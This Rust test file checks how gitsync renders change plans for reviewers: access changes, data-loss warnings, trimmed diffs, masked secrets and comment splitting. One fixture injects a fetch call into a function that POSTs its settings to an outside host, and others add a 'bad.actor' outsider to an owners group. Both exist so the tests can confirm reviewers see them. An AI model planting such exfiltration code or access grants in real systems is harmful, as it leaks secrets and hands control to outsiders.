//! How a plan reads: plans made against the embedded workspace over HTTP from the real Git
//! Sync sample, rendered as text and as Markdown, and checked as a reviewer reads them (access
//! changes first, data loss marked, the changed line of a long query and nothing else, no
//! secret); and a 2,000-resource plan split into comments under GitHub's size.

use crate::util::command::gitsync;
use crate::util::{TestWorkspace, copy_tree, fixture_dir, git, tf_files};
use gitsync::model::{Resource, ResourceType, Value};
use gitsync::sync::plan::{self, Action, AttributeChange, Change, Plan, PlanInput, ViewContext};
use gitsync::sync::secrets::{FileSecrets, NoSecrets, SecretSource};
use gitsync::workspace::{Client, Workspace};

const TOKEN: &str = "plan-show-token";
const GROUP: &str = "user_groups/2N3Y356kJMhmdWUd2pDsfzCiQ6j.tf";
const OWNER_ROLE: &str = "1Mc8DEHhMqqSkb5cPjtu9pAEyNf";
const QUERY_MODEL: &str = "reverse_etl_models/dCYuMDD5A9stDWyQqrxiut.tf";
const TRACKING_PLAN: &str = "tracking_plans/tp_2GMTdawlncDdbCuH0yyzCFeAUmg.tf";
const FUNCTION: &str = "functions/dfn_6419c66b7ad2113079d2907d.tf";
const SECRET: &str = "sup3r-s3cret-value-0123456789";

/// Both samples in one tree (the 2024 one has the user group), prepared before the workspace
/// is seeded from it, then the workspace.
struct Setup {
    _ws: TestWorkspace,
    client: Client,
    dir: tempfile::TempDir,
}

impl Setup {
    async fn new(prepare: impl FnOnce(&Setup)) -> Setup {
        let ws = TestWorkspace::start(Some(TOKEN)).await;
        let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        for form in ["v2025", "v2024"] {
            copy_tree(&fixture_dir(form), dir.path());
        }
        let client = ws.client(TOKEN);
        let setup = Setup {
            _ws: ws,
            client,
            dir,
        };
        prepare(&setup);
        gitsync::workspace::embedded::seed_from_hcl(&setup._ws.store, setup.dir.path())
            .unwrap_or_else(|e| panic!("{e}"));
        setup
    }

    fn files(&self) -> Vec<(String, Vec<u8>)> {
        gitsync::sync::tree::read_dir_files(self.dir.path()).unwrap_or_else(|e| panic!("{e}"))
    }

    fn read(&self, path: &str) -> Resource {
        let text = std::fs::read_to_string(self.dir.path().join(path))
            .unwrap_or_else(|e| panic!("{path}: {e}"));
        gitsync::hcl::parse(&text, path).unwrap_or_else(|e| panic!("{e}"))
    }

    fn write(&self, path: &str, resource: &Resource) {
        let text = gitsync::hcl::render(resource).unwrap_or_else(|e| panic!("{path}: {e}"));
        let full = self.dir.path().join(path);
        std::fs::create_dir_all(full.parent().unwrap_or(self.dir.path()))
            .unwrap_or_else(|e| panic!("{e}"));
        std::fs::write(full, text).unwrap_or_else(|e| panic!("{path}: {e}"));
    }

    fn edit(&self, path: &str, edit: impl FnOnce(&mut Resource)) {
        let mut r = self.read(path);
        edit(&mut r);
        self.write(path, &r);
    }

    fn first(&self, ty: ResourceType) -> String {
        let dir = ty.kind().directory;
        tf_files(self.dir.path())
            .into_iter()
            .map(|(p, _)| p)
            .find(|p| p.starts_with(&format!("{dir}/")))
            .unwrap_or_else(|| panic!("no {dir} file"))
    }

    async fn plan(&self, base: &[(String, Vec<u8>)], secrets: &dyn SecretSource) -> Plan {
        let head = self.files();
        plan::plan(
            &self.client,
            PlanInput {
                base: Some(base),
                base_name: Some("main".into()),
                head: &head,
                secrets,
                send_secrets: Default::default(),
            },
        )
        .await
        .unwrap_or_else(|e| panic!("planning: {e}"))
    }
}

fn s(text: &str) -> Value {
    Value::String(text.to_owned())
}

/// A 5,000-character query, one clause a line.
fn long_query() -> String {
    let query: String = (0..110)
        .map(|i| format!("  SELECT col_{i} AS alias_{i} FROM schema_{i}.table_{i}\n"))
        .collect();
    assert!(query.len() >= 5000, "{}", query.len());
    query
}

/// 400 tracking-plan rules, each with a `total` property of type `number`.
fn rules(changed: Option<usize>) -> Value {
    Value::List(
        (0..400)
            .map(|i| {
                let ty = if Some(i) == changed {
                    "string"
                } else {
                    "number"
                };
                Value::Object(
                    [
                        (
                            "json_schema".to_owned(),
                            Value::Json(serde_json::json!({
                                "$schema": "http://json-schema.org/draft-07/schema#",
                                "properties": {
                                    "context": {},
                                    "properties": {
                                        "type": "object",
                                        "properties": {"total": {"type": ty}}
                                    },
                                    "traits": {"type": "object"}
                                },
                                "type": "object"
                            })),
                        ),
                        ("key".to_owned(), s(&format!("Event {i}"))),
                        ("type".to_owned(), s("TRACK")),
                        ("version".to_owned(), Value::Number(1.into())),
                    ]
                    .into(),
                )
            })
            .collect(),
    )
}

fn add_member(r: &mut Resource, email: &str) {
    let Value::List(mut members) = r.get("members").clone() else {
        panic!("the group has no members list");
    };
    members.push(s(email));
    r.attributes.insert("members".into(), Value::List(members));
}

/// The lines of `text` whose first non-blank character is `mark` and that contain `what`.
fn marked<'t>(text: &'t str, mark: char, what: &str) -> Vec<&'t str> {
    text.lines()
        .map(str::trim_start)
        .filter(|l| l.starts_with(mark) && l.contains(what))
        .collect()
}

/// Every `before -> after` line shows two different values.
fn assert_no_identical_sides(text: &str) {
    for line in text.lines().filter(|l| l.contains(" -> ")) {
        let (left, right) = line.split_once(" -> ").unwrap_or_default();
        let before = left.rsplit_once(" = ").map_or(left, |(_, v)| v).trim();
        let after = right
            .split(" # ")
            .next()
            .unwrap_or_default()
            .split(" (was ")
            .next()
            .unwrap_or_default()
            .trim();
        assert_ne!(before, after, "identical sides: {line}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_markdown_plan_of_a_change_to_every_type_shows_access_data_loss_and_diffs() {
    let setup = Setup::new(|s| {
        s.edit(GROUP, |r| {
            r.attributes
                .insert("name".into(), Value::String("Workspace Owners".into()));
        });
        s.edit(QUERY_MODEL, |r| {
            r.attributes
                .insert("query".into(), Value::String(long_query()));
        });
    })
    .await;
    let keep = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let secrets_file = keep.path().join("secrets.env");
    std::fs::write(&secrets_file, format!("appcues_key={SECRET}\n"))
        .unwrap_or_else(|e| panic!("{e}"));
    let secrets = FileSecrets::read(&secrets_file).unwrap_or_else(|e| panic!("{e}"));
    let base = setup.files();

    // The access change of a real trial: an outsider added to the owners' group.
    setup.edit(GROUP, |r| add_member(r, "bad.actor@hacking.com"));
    // An invitation.
    let mut invited = setup.read(&setup.first(ResourceType::User));
    invited.id = None;
    invited.new_name = Some("new_person".into());
    invited
        .attributes
        .insert("email".into(), s("new.person@example.com"));
    setup.write("users/new person.tf", &invited);
    // A delete and a replace.
    let filter = setup.first(ResourceType::DestinationFilter);
    std::fs::remove_file(setup.dir.path().join(&filter)).unwrap_or_else(|e| panic!("{e}"));
    setup.edit("labels/environment_dev.tf", |r| {
        r.attributes
            .insert("description".into(), s("now described"));
    });
    // A one-word change in the middle of a 5,000-character query.
    setup.edit(QUERY_MODEL, |r| {
        let query = long_query().replace("schema_55.table_55\n", "schema_55.events_55\n");
        r.attributes.insert("query".into(), Value::String(query));
    });
    // A secret set through a placeholder.
    setup.edit("destinations/5e42ab8effcd159e7b45938d.tf", |r| {
        let settings = match r.get("settings") {
            Value::Json(j) => j.clone(),
            Value::String(t) => serde_json::from_str(t).unwrap_or_else(|e| panic!("{e}")),
            other => panic!("settings: {other:?}"),
        };
        let mut settings = settings;
        settings["apiKey"] = serde_json::json!("@@appcues_key@@");
        r.attributes
            .insert("settings".into(), Value::Json(settings));
    });
    // A conflict: the app and the file rename the same source.
    let source_path = setup.first(ResourceType::Source);
    let source = setup.read(&source_path);
    let mut live = setup
        .client
        .get(
            ResourceType::Source,
            &source.import_id().unwrap_or_default(),
        )
        .await
        .unwrap_or_else(|e| panic!("{e}"))
        .unwrap_or_else(|| panic!("no source"));
    live.attributes.insert("name".into(), s("named in the app"));
    setup
        .client
        .update(&live)
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    setup.edit(&source_path, |r| {
        r.attributes.insert("name".into(), s("named in a file"));
    });
    // An in-place change of every other type.
    for (ty, attribute) in [
        (ResourceType::Warehouse, "name"),
        (ResourceType::DestinationSubscription, "name"),
        (ResourceType::TrackingPlan, "name"),
        (ResourceType::Function, "description"),
        (ResourceType::Transformation, "name"),
    ] {
        setup.edit(&setup.first(ty), |r| {
            r.attributes
                .insert(attribute.into(), s("changed by a pull request"));
        });
    }

    let made = setup.plan(&base, &secrets).await;
    let types: std::collections::BTreeSet<&str> = made
        .changes
        .iter()
        .map(|c| c.resource_type.as_str())
        .chain(
            made.conflicts
                .iter()
                .map(|c| c.address.split('.').next().unwrap_or_default()),
        )
        .collect();
    assert_eq!(types.len(), 12, "{types:?}\n{}", plan::human(&made));
    let source_text = std::fs::read_to_string(setup.dir.path().join(&source_path))
        .unwrap_or_else(|e| panic!("{e}"));
    let name_line = 1 + source_text
        .lines()
        .position(|l| l.trim_start().starts_with("name "))
        .unwrap_or_else(|| panic!("no name in {source_path}"));
    let context = ViewContext {
        role_names: [(OWNER_ROLE.to_owned(), "Workspace Owner".to_owned())].into(),
        sources: [(source_path.clone(), source_text)].into(),
        ..ViewContext::default()
    }
    .with_tree_paths(setup.files().iter().map(|(p, _)| p.as_str()));
    let whole = plan::markdown(&made, &context);
    let parts = plan::markdown_parts(&made, &context, plan::GITHUB_COMMENT_LIMIT);
    assert_eq!(
        parts,
        std::slice::from_ref(&whole),
        "a plan this size is one comment"
    );

    // The summary line first: the conflict blocks the plan, and what it holds is counted.
    let first = whole.lines().next().unwrap_or_default();
    assert!(
        first.starts_with("**gitsync plan: 1 conflict(s): no plan can be applied.**")
            && first.contains("2 to add")
            && first.contains("access change")
            && first.contains("2 with possible data loss"),
        "{first}"
    );
    // Sections in the order a reviewer needs them.
    let at = |what: &str| {
        whole
            .find(what)
            .unwrap_or_else(|| panic!("no {what:?} in:\n{whole}"))
    };
    let order = [
        at("### Access changes"),
        at("### Possible data loss"),
        at("### Conflicts"),
        at("### Changes, in the order apply makes them"),
    ];
    assert!(order.is_sorted(), "{order:?}\n{whole}");
    // Who gains what.
    let access = &whole[order[0]..order[1]];
    assert!(
        access.contains("adds bad.actor@hacking.com to group Workspace Owners (")
            && access.contains("role Workspace Owner on workspace mbj3HAIe6A"),
        "{access}"
    );
    assert!(
        access.contains("invites new.person@example.com"),
        "{access}"
    );
    // Data loss, marked, the delete and the replace.
    let loss = &whole[order[1]..order[2]];
    assert!(
        loss.contains(":warning: **destroy** `segment_destination_filter.")
            && loss.contains(":warning: **replace** `segment_label.")
            && loss.contains("`description` forces replacement"),
        "{loss}"
    );
    let conflicts = &whole[order[2]..order[3]];
    assert!(
        conflicts.contains(&format!("(`{source_path}:{name_line}:3`)"))
            && conflicts.contains("workspace: \"named in the app\"")
            && conflicts.contains("file:      \"named in a file\""),
        "{conflicts}"
    );
    // Every change, in the plan's (apply's) order, the deletes and replaces marked.
    let changes = &whole[order[3]..];
    let mut last = 0;
    for c in &made.changes {
        let heading = format!("<code>{}</code> ", c.address);
        let found = changes
            .find(&heading)
            .unwrap_or_else(|| panic!("{heading} not shown:\n{changes}"));
        assert!(found >= last, "{} is out of the apply order", c.address);
        last = found;
        let line_end = changes[found..].find('\n').unwrap_or_default();
        let summary = &changes[found..found + line_end];
        assert_eq!(
            summary.contains(":warning: possible data loss"),
            matches!(c.action, Action::Delete | Action::Replace),
            "{summary}"
        );
    }
    // The query's one changed line, and nothing else of it.
    let removed = marked(changes, '-', "alias_");
    let added = marked(changes, '+', "alias_");
    assert!(
        removed.len() == 1
            && removed[0].ends_with(" SELECT col_55 AS alias_55 FROM schema_55.table_55"),
        "{removed:?}"
    );
    assert!(
        added.len() == 1
            && added[0].ends_with(" SELECT col_55 AS alias_55 FROM schema_55.events_55"),
        "{added:?}"
    );
    assert_eq!(
        changes.matches("(52 unchanged lines hidden)").count(),
        2,
        "{changes}"
    );
    // The outsider as an element of the members set, in HCL.
    assert!(
        marked(changes, '+', "\"bad.actor@hacking.com\",").len() == 1,
        "{changes}"
    );
    // No secret, and no JSON where the file has HCL.
    assert!(
        !whole.contains(SECRET) && !whole.contains("appcues_key"),
        "{whole}"
    );
    assert!(whole.contains("! settings.apiKey = (sensitive)"), "{whole}");
    assert!(!whole.contains("\"key\":"), "{whole}");
    assert_no_identical_sides(&whole);
    // The text plan says the same, in the same order.
    let text = plan::text(&made, &context);
    assert!(
        text.find("adds bad.actor@hacking.com to group Workspace Owners")
            < text.find("Possible data loss"),
        "{text}"
    );
    assert_no_identical_sides(&text);
}

/// Defect 1: each change hidden past a value's 117th character is shown, and no attribute line
/// shows identical before and after.
#[tokio::test(flavor = "multi_thread")]
async fn the_text_plan_shows_changes_deep_in_long_values_and_sets() {
    let setup = Setup::new(|s| {
        s.edit(TRACKING_PLAN, |r| {
            r.attributes.insert("rules".into(), rules(None));
        });
    })
    .await;
    let base = setup.files();
    setup.edit(FUNCTION, |r| {
        let Value::String(code) = r.get("code").clone() else {
            panic!("no code");
        };
        let code = code.replacen(
            "console.log('hello world!');",
            "console.log('hello world!');\n\tawait fetch(\"https://outside.example\", { method: 'POST', body: JSON.stringify(settings) });",
            1,
        );
        r.attributes.insert("code".into(), Value::String(code));
    });
    setup.edit(TRACKING_PLAN, |r| {
        r.attributes.insert("rules".into(), rules(Some(200)));
    });
    setup.edit(GROUP, |r| add_member(r, "late@outside.example"));

    let made = setup.plan(&base, &NoSecrets).await;
    assert_eq!(made.counts(), (0, 3, 0), "{}", plan::human(&made));
    let text = plan::human(&made);
    assert_eq!(
        marked(&text, '+', "fetch(\"https://outside.example\""),
        [
            "+ \tawait fetch(\"https://outside.example\", { method: 'POST', body: JSON.stringify(settings) });"
        ],
        "{text}"
    );
    assert_eq!(
        marked(&text, '~', "Event "),
        [
            r#"~ rules[type = "TRACK", key = "Event 200"].json_schema.properties.properties.properties.total.type = "number" -> "string""#
        ],
        "{text}"
    );
    assert_eq!(
        marked(&text, '+', "\"late@outside.example\","),
        ["+ \"late@outside.example\","],
        "{text}"
    );
    assert!(text.lines().count() < 80, "{text}");
    assert_no_identical_sides(&text);
}

fn created(n: usize) -> Change {
    Change {
        action: Action::Create,
        resource_type: "segment_destination".into(),
        address: format!("segment_destination.new_{n:05}"),
        file: format!("destinations/new {n:05}.tf"),
        import_id: None,
        attributes: ["enabled", "name", "settings"]
            .iter()
            .map(|a| AttributeChange {
                path: (*a).into(),
                before: None,
                after: Some(match *a {
                    "enabled" => serde_json::json!(true),
                    "name" => serde_json::json!(format!("Destination {n}")),
                    _ => serde_json::json!({"region": "eu", "events": ["a", "b", format!("e{n}")]}),
                }),
                sensitive: false,
                forces_replacement: false,
            })
            .collect(),
        live_fingerprint: None,
        desired: None,
        dependents: Vec::new(),
    }
}

#[test]
fn a_2000_resource_plan_splits_into_comments_with_every_resource_once() {
    let mut changes: Vec<Change> = (0..1000).map(created).collect();
    changes.extend((0..1000).map(|n| {
        let mut c = created(n);
        c.action = Action::Update;
        c.address = format!("segment_source.id-src{n:05}");
        c.resource_type = "segment_source".into();
        c.file = format!("sources/src{n:05}.tf");
        c.attributes.truncate(2);
        c.attributes[1].before = Some(serde_json::json!(format!("a long-standing name {n}")));
        c.attributes[0].before = Some(serde_json::json!(false));
        c
    }));
    let made = Plan {
        changes,
        ..Plan::new(&[], Some("main".into()))
    };
    let context = ViewContext::default();
    let parts = plan::markdown_parts(&made, &context, plan::GITHUB_COMMENT_LIMIT);
    assert!(parts.len() > 1, "{} parts", parts.len());
    assert!(
        parts[0].starts_with("**gitsync plan: Plan: 1000 to add, 1000 to change, 0 to destroy.**"),
        "{}",
        &parts[0][..200]
    );
    for (k, part) in parts.iter().enumerate() {
        assert!(
            part.chars().count() <= plan::GITHUB_COMMENT_LIMIT,
            "part {k}: {} characters",
            part.chars().count()
        );
        assert_eq!(
            part.matches("<details>").count(),
            part.matches("</details>").count(),
            "part {k}"
        );
        assert_eq!(
            part.matches("```").count() % 2,
            0,
            "part {k}: a code block left open"
        );
    }
    for c in &made.changes {
        let shown = format!("<code>{}</code>", c.address);
        let times: usize = parts.iter().map(|p| p.matches(&shown).count()).sum();
        assert_eq!(times, 1, "{} is shown {times} times", c.address);
    }
    // Nothing lost: every value line of the whole document is in some part, in order.
    let whole = plan::markdown(&made, &context);
    let value_lines = |text: &str| -> Vec<String> {
        text.lines()
            .filter(|l| l.starts_with(['+', '!']))
            .map(str::to_owned)
            .collect()
    };
    let joined: Vec<String> = parts.iter().flat_map(|p| value_lines(p)).collect();
    assert_eq!(joined, value_lines(&whole));
}

/// `gitsync plan --format text|markdown|json`, and `--json` as before: the Markdown a CI job
/// posts, with the call-out of a resource directory the change deletes whole.
#[tokio::test(flavor = "multi_thread")]
async fn gitsync_plan_prints_markdown_text_or_json() {
    let setup = Setup::new(|_| {}).await;
    let tree = setup.dir.path();
    let home = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    std::fs::write(home.path().join("token"), TOKEN).unwrap_or_else(|e| panic!("{e}"));
    git(tree, &["init", "-q", "-b", "main"]);
    crate::util::commit_all(tree, "sample");
    setup.edit(GROUP, |r| add_member(r, "bad.actor@hacking.com"));
    std::fs::remove_dir_all(tree.join("labels")).unwrap_or_else(|e| panic!("{e}"));
    let plan = |format: &[&str]| {
        let ran = gitsync(&["plan"])
            .args(["--workspace", &setup._ws.running.url()])
            .arg("--token-file")
            .arg(home.path().join("token"))
            .arg("--dir")
            .arg(tree)
            .args(["--base", "HEAD"])
            .args(format)
            .env("XDG_CACHE_HOME", home.path().join("cache"))
            .env_remove("PUBLIC_API_TOKEN")
            .run();
        (ran.code, ran.stdout, ran.stderr)
    };

    let (code, markdown, stderr) = plan(&["--format", "markdown"]);
    assert_eq!(code, Some(0), "{stderr}");
    let labels = tf_files(&fixture_dir("v2025"))
        .iter()
        .chain(tf_files(&fixture_dir("v2024")).iter())
        .filter(|(p, _)| p.starts_with("labels/"))
        .map(|(p, _)| p.clone())
        .collect::<std::collections::BTreeSet<_>>()
        .len();
    assert!(
        markdown.starts_with("**gitsync plan: Plan: 0 to add, 1 to change, ")
            && markdown.contains(&format!(
                "> **This plan deletes the whole labels/ directory: {labels} resource"
            ))
            && markdown.contains("adds bad.actor@hacking.com to group Contribute (")
            && !markdown.contains("Saved the plan"),
        "{markdown}"
    );
    let (code, text, stderr) = plan(&["--format", "text"]);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(
        text.starts_with("!! This plan deletes the whole labels/ directory")
            && text.contains("Access changes: who gains or loses access"),
        "{text}"
    );
    for json in [&["--json"][..], &["--format", "json"]] {
        let (code, out, stderr) = plan(json);
        assert_eq!(code, Some(0), "{json:?}: {stderr}");
        let document: serde_json::Value =
            serde_json::from_str(&out).unwrap_or_else(|e| panic!("{json:?}: {e}\n{out}"));
        assert_eq!(document["format"], "gitsync-plan", "{json:?}");
    }
    let (code, _, stderr) = plan(&["--format", "yaml"]);
    assert_eq!(code, Some(2), "{stderr}");
    assert!(stderr.contains("markdown"), "{stderr}");
}
